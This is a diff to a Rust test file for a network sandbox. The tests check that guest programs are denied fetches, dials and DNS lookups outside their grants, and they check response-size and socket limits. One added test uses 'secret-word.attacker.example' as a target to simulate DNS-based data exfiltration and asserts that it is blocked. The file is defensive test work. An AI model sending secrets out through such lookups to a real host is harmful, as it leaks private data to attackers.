@@ -79,16 +79,24 @@ async fn a_name_leads_to_this_machine_only_if_it_is_localhost() {
     let server = serve(200, "").await;
     // A name to us, and the address 127.0.0.1 to every resolver.
     let (name, address) = (server.url("127.1"), server.address("127.1"));
-    check_denied("fetch", &fetching(&name, &[&address]), &address).await;
-    let error = once("dial", &dialing("connect", &address, &[&address])).await.unwrap_err();
-    assert_eq!(error.kind(), "denied", "{error}");
+    let real = server.address("127.0.0.1");
+    for (guest, spec) in
+        [("fetch", fetching(&name, &[&address])), ("dial", dialing("connect", &address, &["127.1:1", &address]))]
+    {
+        let error = once(guest, &spec).await.unwrap_err();
+        assert_eq!((error.kind(), error.blame()), ("denied", Blame::Operator), "{guest}: {error}");
+        assert!(error.to_string().contains(&real), "{guest}: {error}");
+    }
     assert_eq!(server.connections(), 0);
+    // With the address beside the name it is what the operator wants.
+    once("fetch", &fetching(&name, &[&address, &real])).await.unwrap();
+    server.until_connections(1).await;
 
     let (name, address) = (server.url("localhost"), server.address("localhost"));
     check_denied("fetch", &fetching(&name, &[]), &address).await;
     once("fetch", &fetching(&name, &[&address])).await.unwrap();
     once("dial", &dialing("connect", &address, &[&address])).await.unwrap();
-    server.until_connections(2).await;
+    server.until_connections(3).await;
 }
 
 #[tokio::test]
@@ -135,4 +143,36 @@ async fn an_answer_that_is_too_long_is_cut_off() {
     assert_eq!(value(&once("fetch", &spec).await.unwrap(), "fetch.body_bytes"), 4000.0);
     spec.limits.response_bytes = 100;
     assert!(value(&once("fetch", &spec).await.unwrap(), "fetch.body_bytes") <= 100.0);
+}
+
+#[tokio::test]
+async fn only_granted_names_are_looked_up() {
+    let looking = |name: &str, granted: &[&str]| {
+        let mut spec = spec(json!({ "name": name }));
+        spec.grants.connect = granted.iter().map(|address| address.parse().unwrap()).collect();
+        spec
+    };
+    check_denied("lookup", &looking("secret-word.attacker.example", &[]), "secret-word.attacker.example:*").await;
+    // Neither another name nor any address opens the way to a name server.
+    let granted = ["localhost:80", "0.0.0.0/0:*", "[::/0]:*"];
+    check_denied("lookup", &looking("secret-word.attacker.example", &granted), "secret-word.attacker.example:*").await;
+    check_denied("lookup", &looking("a.localhost", &granted), "a.localhost:*").await;
+    assert!(value(&once("lookup", &looking("localhost", &granted)).await.unwrap(), "lookup.addresses") > 0.0);
+    let url = "http://secret-word.attacker.example:80/";
+    check_denied("fetch", &fetching(url, &granted), "secret-word.attacker.example:80").await;
+}
+
+#[tokio::test]
+async fn sockets_have_a_number_and_one_that_is_closed_counts_no_longer() {
+    let mut spec = spec(json!({}));
+    spec.limits.connections = 3;
+    let mut collector = open("leak-sockets", &spec).await.unwrap();
+    for new in [3.0, 0.0] {
+        assert_eq!(value(&tick(&mut collector).await.unwrap(), "leak-sockets.new"), new);
+    }
+    spec.settings = json!({ "close": true }).to_string();
+    let mut collector = open("leak-sockets", &spec).await.unwrap();
+    for _ in 0..3 {
+        assert_eq!(value(&tick(&mut collector).await.unwrap(), "leak-sockets.new"), 3.0);
+    }
 }
